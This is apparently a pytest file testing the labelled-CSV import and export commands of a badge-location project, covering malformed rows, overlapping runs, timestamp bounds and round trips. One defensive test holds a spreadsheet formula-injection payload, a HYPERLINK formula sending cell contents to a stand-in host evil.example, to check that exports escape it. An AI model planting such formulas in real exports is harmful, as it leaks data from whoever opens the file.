"""stethoscope-import and stethoscope-export: labelled CSV, on SQLite and PostgreSQL."""

import csv
import datetime
import io
import itertools
import os
import shutil
from pathlib import Path

import pytest
from sqlalchemy import create_engine, select
from sqlalchemy.orm import Session

from stethoscope.audit.models import AuditEvent
from stethoscope.db import Database
from stethoscope.ingest.models import Reading
from stethoscope.ingest.schemas import fingerprint
from stethoscope.labels.csvio import parse_rssi, parse_timestamp, read_rows
from stethoscope.labels.importer import LabelledImporter
from stethoscope.labels.models import TrainingRun
from stethoscope.registry.models import Room, Site
from stethoscope.scripts import labelled_export, labelled_import
from tests.conftest import _database_numbers
from tests.functional.conftest import CONSOLE_INI

# Real labelled data kept beside the checkout (see its README there).
SPHERE = Path(
    os.environ.get(
        "STETHOSCOPE_SPHERE_CSV",
        Path(__file__).resolve().parents[2].parent
        / "shared/datasets/sphere/sphere_recordings_1_5.csv",
    )
)
UTC = datetime.UTC
T0 = datetime.datetime(2024, 5, 1, 10, 0, tzinfo=UTC)
HEADER = "timestamp,badge_id,room,a,b\n"


def at(seconds: float) -> datetime.datetime:
    return T0 + datetime.timedelta(seconds=seconds)


def iso(seconds: float) -> str:
    return at(seconds).isoformat().replace("+00:00", "Z")


def add_site(engine, site_id="home", rooms=(("kitchen", "Kitchen"),)):
    with Session(engine) as session, session.begin():
        session.add(Site(id=site_id, name=site_id.title(), timezone="Europe/London"))
        session.flush()
        for room_id, name in rooms:
            session.add(Room(id=room_id, site_id=site_id, name=name))


def readings(engine) -> list[tuple]:
    with Session(engine) as session:
        return sorted(
            (r.badge_id, r.observed_at, r.gateway_id, tuple(sorted(r.beacons.items())))
            for r in session.scalars(select(Reading))
        )


def runs(engine) -> list[tuple]:
    with Session(engine) as session:
        return sorted(
            (r.badge_id, r.room_id, r.started_at, r.ended_at, r.source, r.created_by)
            for r in session.scalars(select(TrainingRun))
        )


def write(tmp_path, text, name="labelled.csv") -> str:
    path = tmp_path / name
    path.write_text(text)
    return str(path)


def imported(ini, path, *options) -> int:
    return labelled_import.main([ini, path, *options])


@pytest.fixture
def fresh_url(db_url, request, tmp_path):
    """A second fresh database of the same kind as ``db_url``."""
    if db_url.startswith("sqlite"):
        path = tmp_path / "second.sqlite"
        shutil.copyfile(request.getfixturevalue("sqlite_template"), path)
        yield f"sqlite:///{path}"
        return
    server = request.getfixturevalue("postgres_server")
    name = f"stethoscope_test_{next(_database_numbers)}"
    server.execute(f"CREATE DATABASE {name} TEMPLATE stethoscope_template")
    yield server.database_url(name)
    server.execute(f"DROP DATABASE {name} WITH (FORCE)")


def sphere_expected():
    """Readings and runs as the file has them, worked out independently."""
    with SPHERE.open(newline="") as handle:
        rows = list(csv.reader(handle))
    beacons = rows[0][3:]
    expected_readings = []
    expected_runs = []
    for badge_id, group in itertools.groupby(rows[1:], key=lambda row: row[1]):
        group = list(group)
        for row in group:
            heard = {
                beacon: parse_rssi(cell)
                for beacon, cell in zip(beacons, row[3:], strict=True)
                if cell
            }
            expected_readings.append(
                (
                    badge_id,
                    parse_timestamp(row[0]),
                    "import",
                    tuple(sorted(heard.items())),
                )
            )
        # The file's badges are one second apart with gaps of at most 9 s:
        # every stretch is a run of rows in one room.
        position = 0
        for room, stretch in itertools.groupby(group, key=lambda row: row[2]):
            stretch = list(stretch)
            position += len(stretch)
            if room:
                expected_runs.append(
                    (
                        badge_id,
                        room,
                        parse_timestamp(stretch[0][0]),
                        parse_timestamp(stretch[-1][0]) + datetime.timedelta(seconds=1),
                        "import",
                        "console:matron",
                    )
                )
    return sorted(expected_readings), sorted(expected_runs)


def test_sphere_imports_round_trips_and_imports_once(
    ini, engine, fresh_url, tmp_path, capsys
):
    if not SPHERE.exists():
        pytest.skip(f"no {SPHERE}")
    add_site(engine, "sphere", rooms=())
    expected_readings, expected_runs = sphere_expected()
    assert len(expected_readings) == 8249
    assert len(expected_runs) == 94

    assert imported(ini, str(SPHERE), "--site", "sphere", "--create-rooms") == 0
    out = capsys.readouterr().out
    assert "8,249 rows read" in out
    assert "readings: 8,249 created, 0 already there" in out
    assert "training runs: 94 created, 0 already there" in out
    assert "errors: 0" in out
    assert readings(engine) == expected_readings
    assert runs(engine) == expected_runs
    with Session(engine) as session:
        rooms = {room.id: room.name for room in session.scalars(select(Room))}
        labelled = session.scalars(
            select(Reading).where(Reading.badge_id == "sphere-02")
        ).first()
        assert labelled.fingerprint == fingerprint("sphere-02", labelled.beacons)
        assert session.scalars(select(AuditEvent.action)).all() == ["labels.import"]
    assert rooms == {
        room: room
        for room in (
            "bath",
            "bed1",
            "bed2",
            "hall",
            "kitchen",
            "living",
            "stairs",
            "toilet",
        )
    }

    # Importing the same file again adds nothing.
    assert imported(ini, str(SPHERE), "--site", "sphere") == 0
    out = capsys.readouterr().out
    assert "readings: 0 created, 8,249 already there" in out
    assert "training runs: 0 created, 94 already there" in out
    assert len(readings(engine)) == 8249 and len(runs(engine)) == 94

    # Export, then import into an empty database: the same labelled data.
    export = str(tmp_path / "export.csv")
    assert labelled_export.main([ini, export, "--site", "sphere"]) == 0
    assert "7,923 readings, 3 beacon columns" in capsys.readouterr().out
    with open(export, newline="") as handle:
        assert next(csv.reader(handle)) == [
            "timestamp",
            "badge_id",
            "room",
            "Kitchen_AP",
            "Lounge_AP",
            "Upstairs_AP",
        ]
    second = tmp_path / "second.ini"
    second.write_text(CONSOLE_INI.format(url=fresh_url, models=tmp_path / "models"))
    fresh = create_engine(fresh_url)
    try:
        add_site(fresh, "sphere", rooms=[(room, room) for room in rooms])
        assert imported(str(second), export, "--site", "sphere") == 0
        assert "errors: 0" in capsys.readouterr().out
        labelled = _labelled_rows()
        labelled_only = [r for r in expected_readings if r[:2] in labelled]
        assert readings(fresh) == labelled_only
        assert runs(fresh) == expected_runs
    finally:
        fresh.dispose()


def _labelled_rows() -> set[tuple]:
    with SPHERE.open(newline="") as handle:
        return {
            (row["badge_id"], parse_timestamp(row["timestamp"]))
            for row in csv.DictReader(handle)
            if row["room"]
        }


def test_malformed_rows_are_reported_by_line_and_the_rest_imported(
    ini, engine, tmp_path, capsys
):
    add_site(engine)
    path = write(
        tmp_path,
        HEADER
        + f"{iso(0)},b1,kitchen,-60.5,\n"  # 2
        + "not a time,b1,kitchen,-60,\n"  # 3: bad timestamp
        + f"{iso(1)},b1,kitchen,loud,\n"  # 4: bad RSSI
        + f"{iso(2)},b1,larder,-60,\n"  # 5: unknown room
        + f"{iso(3)},b 1,kitchen,-60,\n"  # 6: bad badge id
        + f"{iso(4)},b1,kitchen,-60\n"  # 7: wrong column count
        + f"{iso(5)},b1,Kitchen,,-70.4\n"  # 8: a room by its name
        + f"{iso(6)},b1,,,\n",  # 9: unlabelled, nothing heard
    )
    assert imported(ini, path, "--site", "home") == 0
    out = capsys.readouterr().out
    errors = [line.strip() for line in out.splitlines() if line.startswith("  line")]
    assert [error.split(":")[0] for error in errors] == [
        "line 3",
        "line 4",
        "line 5",
        "line 6",
        "line 7",
    ]
    assert "errors: 5" in out
    assert "no room 'larder' of site home (--create-rooms creates it)" in out
    assert readings(engine) == [
        ("b1", at(0), "import", (("a", -61),)),
        ("b1", at(5), "import", (("b", -70),)),
        ("b1", at(6), "import", ()),
    ]
    # Rows in error are left out, as if they were not there: one stretch.
    assert runs(engine) == [("b1", "kitchen", at(0), at(6), "import", "console:matron")]


def test_epoch_seconds_and_several_badges_interleaved(ini, engine, tmp_path):
    add_site(engine, rooms=[("kitchen", "Kitchen"), ("lounge", "Lounge")])
    epoch = T0.timestamp()
    lines = [HEADER]
    for second in range(6):
        lines.append(
            f"{epoch + second},b1,{'kitchen' if second < 3 else 'lounge'},-60,\n"
        )
        lines.append(f"{epoch + second:.0f},b2,kitchen,,-70\n")
    path = write(tmp_path, "".join(lines))
    assert imported(ini, path, "--site", "home") == 0
    assert len(readings(engine)) == 12
    assert runs(engine) == [
        ("b1", "kitchen", at(0), at(3), "import", "console:matron"),
        ("b1", "lounge", at(3), at(6), "import", "console:matron"),
        ("b2", "kitchen", at(0), at(6), "import", "console:matron"),
    ]


@pytest.mark.parametrize("chunk_rows", [1, 2, 3, 1000])
def test_runs_do_not_depend_on_the_chunks(sqlite_url, tmp_path, chunk_rows):
    engine = create_engine(sqlite_url)
    add_site(engine, rooms=[("kitchen", "Kitchen"), ("lounge", "Lounge")])
    text = (
        HEADER
        + f"{iso(0)},b1,kitchen,-60,\n"
        + f"{iso(1)},b1,kitchen,-60,\n"
        + f"{iso(1.5)},b1,lounge,-60,\n"  # a room change half a second on
        + f"{iso(2)},b1,lounge,-61,\n"
        + f"{iso(100)},b1,lounge,-62,\n"  # a gap over 60 s
        + f"{iso(101)},b1,,-62,\n"  # unlabelled
        + f"{iso(102)},b1,lounge,-63,\n"
        + f"{iso(100.5)},b1,kitchen,-64,\n"  # back in time: overlaps
    )
    importer = LabelledImporter(
        Database(engine), actor="test", site_id="home", chunk_rows=chunk_rows
    )
    summary = importer.run(read_rows(text.splitlines(keepends=True)))
    assert (summary.readings_created, summary.runs_created) == (8, 4)
    assert [str(error).split(":")[0] for error in summary.errors] == ["line 9"]
    assert "overlaps training run" in str(summary.errors[0])
    assert [run[1:4] for run in runs(engine)] == [
        ("kitchen", at(0), at(1.5)),
        ("lounge", at(1.5), at(3)),
        ("lounge", at(100), at(101)),
        ("lounge", at(102), at(103)),
    ]
    engine.dispose()


def test_a_run_overlapping_a_live_run_is_an_error_its_readings_are_kept(
    ini, engine, tmp_path, capsys
):
    add_site(engine)
    with Session(engine) as session, session.begin():
        session.add(
            TrainingRun(
                badge_id="b1",
                room_id="kitchen",
                started_at=at(2),
                ended_at=at(10),
                created_by="nurse",
            )
        )
        # A cancelled run is no training data: it does not stand in the way.
        session.add(
            TrainingRun(
                badge_id="b2",
                room_id="kitchen",
                started_at=at(0),
                ended_at=at(10),
                cancelled_at=at(11),
                created_by="nurse",
            )
        )
    path = write(
        tmp_path,
        HEADER
        + "".join(
            f"{iso(s)},{b},kitchen,-60,\n" for b in ("b1", "b2") for s in (0, 1, 2)
        ),
    )
    assert imported(ini, path, "--site", "home") == 0
    out = capsys.readouterr().out
    assert "lines 2-4: room: the run of b1 in kitchen overlaps training run #1" in out
    assert "errors: 1" in out
    assert len(readings(engine)) == 6
    assert [run[:4] for run in runs(engine)] == [
        ("b1", "kitchen", at(2), at(10)),
        ("b2", "kitchen", at(0), at(3)),
        ("b2", "kitchen", at(0), at(10)),
    ]


def test_rooms_resolve_by_id_then_by_name_within_the_site(
    ini, engine, tmp_path, capsys
):
    add_site(engine, rooms=[("r1", "Bedroom"), ("r2", "Bedroom"), ("r3", "Office")])
    add_site(engine, "other", rooms=[("elsewhere", "Office")])
    path = write(
        tmp_path,
        HEADER
        + f"{iso(0)},b1,r1,-60,\n"
        + f"{iso(1)},b2,Office,-60,\n"
        + f"{iso(2)},b3,Bedroom,-60,\n"
        + f"{iso(3)},b4,elsewhere,-60,\n",
    )
    assert imported(ini, path, "--site", "home", "--create-rooms") == 0
    out = capsys.readouterr().out
    assert "line 4: room: 'Bedroom' names 2 rooms of site home (r1, r2)" in out
    assert "line 5: room: room elsewhere belongs to site other, not home" in out
    assert [run[:2] for run in runs(engine)] == [("b1", "r1"), ("b2", "r3")]


@pytest.mark.parametrize(
    ("argv", "text", "message"),
    [
        (["--site", "nowhere"], HEADER, "no site 'nowhere'"),
        ([], "time,badge,room\n", "must begin with timestamp,badge_id,room"),
        ([], None, "cannot read"),
    ],
)
def test_fatal_errors_exit_2(ini, engine, tmp_path, capsys, argv, text, message):
    path = write(tmp_path, text) if text is not None else str(tmp_path / "none.csv")
    assert imported(ini, path, *argv) == 2
    assert message in capsys.readouterr().err
    assert readings(engine) == []


def test_create_rooms_needs_a_site(ini, tmp_path, capsys):
    with pytest.raises(SystemExit) as excinfo:
        imported(ini, write(tmp_path, HEADER), "--create-rooms")
    assert excinfo.value.code == 2
    assert "--create-rooms needs --site" in capsys.readouterr().err


def test_export_leaves_out_cancelled_open_and_earlier(ini, engine, tmp_path, capsys):
    add_site(engine, rooms=[("kitchen", "Kitchen")])
    add_site(engine, "other", rooms=[("shed", "Shed")])
    path = write(
        tmp_path,
        HEADER
        + "".join(f"{iso(s)},b1,kitchen,-60,\n" for s in range(3))
        + "".join(f"{iso(s)},b2,shed,,-70\n" for s in range(3)),
    )
    assert imported(ini, path) == 0
    with Session(engine) as session, session.begin():
        session.add(
            TrainingRun(
                badge_id="b3", room_id="kitchen", started_at=at(0), created_by="x"
            )
        )
        session.add(
            Reading(
                badge_id="b3",
                gateway_id="g",
                received_at=at(1),
                observed_at=at(1),
                beacons={"c": -50},
                fingerprint="f",
            )
        )
    export = tmp_path / "export.csv"
    assert (
        labelled_export.main([ini, str(export), "--site", "home", "--since", iso(1)])
        == 0
    )
    assert export.read_text() == (
        f"timestamp,badge_id,room,a\n{iso(1)},b1,kitchen,-60\n{iso(2)},b1,kitchen,-60\n"
    )
    capsys.readouterr()
    assert labelled_export.main([ini, "-"]) == 0
    out = capsys.readouterr().out
    assert out.startswith("timestamp,badge_id,room,a,b\n")
    assert f"{iso(0)},b2,shed,,-70\n" in out and "b3" not in out
    assert labelled_export.main([ini, str(export), "--site", "nowhere"]) == 2
    assert "no site 'nowhere'" in capsys.readouterr().err


def test_timestamps_outside_1970_to_2999_are_row_errors(ini, engine, tmp_path, capsys):
    # Near datetime's limit the run's end (last row + 1 s) used to overflow:
    # a traceback, exit 1, and the chunk lost.
    add_site(engine, rooms=[("kitchen", "Kitchen"), ("lounge", "Lounge")])
    path = write(
        tmp_path,
        HEADER
        + f"{iso(0)},b1,kitchen,-60,\n"  # 2
        + "9999-12-31T23:59:59Z,b2,kitchen,-60,\n"  # 3
        + "9999-12-31T23:59:59.5Z,b2,lounge,-60,\n"  # 4
        + "3000-01-01T00:00:00Z,b1,kitchen,-60,\n"  # 5
        + "1969-12-31T23:59:59Z,b1,kitchen,-60,\n"  # 6
        + f"{iso(1)},b1,kitchen,-60,\n",  # 7
    )
    assert imported(ini, path, "--site", "home") == 0
    out = capsys.readouterr().out
    assert "errors: 4" in out
    assert (
        "line 3: timestamp: '9999-12-31T23:59:59Z' is outside the years 1970-2999"
        in out
    )
    for line in (4, 5, 6):
        assert f"line {line}: timestamp: " in out
    assert readings(engine) == [
        ("b1", at(0), "import", (("a", -60),)),
        ("b1", at(1), "import", (("a", -60),)),
    ]
    assert runs(engine) == [("b1", "kitchen", at(0), at(2), "import", "console:matron")]


def test_rows_later_than_the_clock_skew_allows_are_row_errors(
    ini, engine, tmp_path, capsys
):
    # As for live readings (stethoscope.ingest.max_clock_skew_s, 300 s): an
    # imported run ending in the future would block the badge's live runs.
    add_site(engine)
    now = datetime.datetime.now(UTC).replace(microsecond=0)
    soon, later = (
        now + datetime.timedelta(seconds=60),
        now + datetime.timedelta(hours=1),
    )
    stamp = lambda moment: moment.isoformat().replace("+00:00", "Z")  # noqa: E731
    path = write(
        tmp_path,
        HEADER + f"{stamp(soon)},b1,kitchen,-60,\n{stamp(later)},b2,kitchen,-60,\n",
    )
    assert imported(ini, path, "--site", "home") == 0
    out = capsys.readouterr().out
    assert (
        f"line 3: timestamp: {stamp(later)} is in the future; check the "
        "recording's clock" in out
    )
    assert [r[:2] for r in readings(engine)] == [("b1", soon)]
    assert [r[:4] for r in runs(engine)] == [
        ("b1", "kitchen", soon, soon + datetime.timedelta(seconds=1))
    ]

    # The bound is the server's setting.
    with open(ini, "a") as handle:
        handle.write("stethoscope.ingest.max_clock_skew_s = 7200\n")
    assert imported(ini, path, "--site", "home") == 0
    assert "errors: 0" in capsys.readouterr().out
    assert [r[:2] for r in readings(engine)] == [("b1", soon), ("b2", later)]


# Gateways post badge and beacon ids of any printable ASCII; room ids are
# chosen by an admin. Each of these would be a formula in a spreadsheet.
FORMULA_BADGE = '=HYPERLINK("http://evil.example/?"&A1,"open")'
FORMULA_IDS = [FORMULA_BADGE, "-2+3", "'@x", "+1"]


def test_export_writes_formula_ids_as_text_and_imports_them_back(
    ini, engine, fresh_url, tmp_path, capsys
):
    add_site(engine, rooms=[("=1+1", "Kitchen")])
    with Session(engine) as session, session.begin():
        for second, badge in enumerate(FORMULA_IDS):
            session.add(
                Reading(
                    badge_id=badge,
                    gateway_id="g",
                    received_at=at(second),
                    observed_at=at(second),
                    beacons={"@SUM(9)": -70, "plain": -60},
                    fingerprint="f",
                )
            )
            session.add(
                TrainingRun(
                    badge_id=badge,
                    room_id="=1+1",
                    started_at=at(second),
                    ended_at=at(second + 1),
                    created_by="x",
                )
            )
    export = tmp_path / "export.csv"
    assert labelled_export.main([ini, str(export)]) == 0
    text = export.read_text()
    assert "'=HYPERLINK(" in text
    with open(export, newline="") as handle:
        cells = list(csv.reader(handle))
    # Ordered by badge: ' (39) < + (43) < - (45) < = (61).
    assert cells == [
        ["timestamp", "badge_id", "room", "'@SUM(9)", "plain"],
        [iso(2), "''@x", "'=1+1", "-70", "-60"],
        [iso(3), "'+1", "'=1+1", "-70", "-60"],
        [iso(1), "'-2+3", "'=1+1", "-70", "-60"],
        [iso(0), "'" + FORMULA_BADGE, "'=1+1", "-70", "-60"],
    ]

    second = tmp_path / "second.ini"
    second.write_text(CONSOLE_INI.format(url=fresh_url, models=tmp_path / "models"))
    fresh = create_engine(fresh_url)
    try:
        add_site(fresh, rooms=[("=1+1", "Kitchen")])
        assert imported(str(second), str(export), "--site", "home") == 0
        assert "errors: 0" in capsys.readouterr().out
        assert readings(fresh) == sorted(
            (badge, at(s), "import", (("@SUM(9)", -70), ("plain", -60)))
            for s, badge in enumerate(FORMULA_IDS)
        )
        assert runs(fresh) == sorted(
            (badge, "=1+1", at(s), at(s + 1), "import", "console:matron")
            for s, badge in enumerate(FORMULA_IDS)
        )
    finally:
        fresh.dispose()


class Terminal:
    def __init__(self):
        self.text = ""

    def isatty(self):
        return True

    def write(self, text):
        self.text += text

    def flush(self):
        pass


def test_progress_is_shown_at_a_terminal_only():
    terminal = Terminal()
    progress = labelled_import.Progress("imported", terminal)
    progress(5000)
    progress.done()
    assert terminal.text.startswith("\rimported 5,000 rows, ")
    assert terminal.text.endswith(" s\n")
    silent = labelled_import.Progress("imported", io.StringIO())
    silent(5000)
    silent.done()
    assert silent.stream.getvalue() == ""
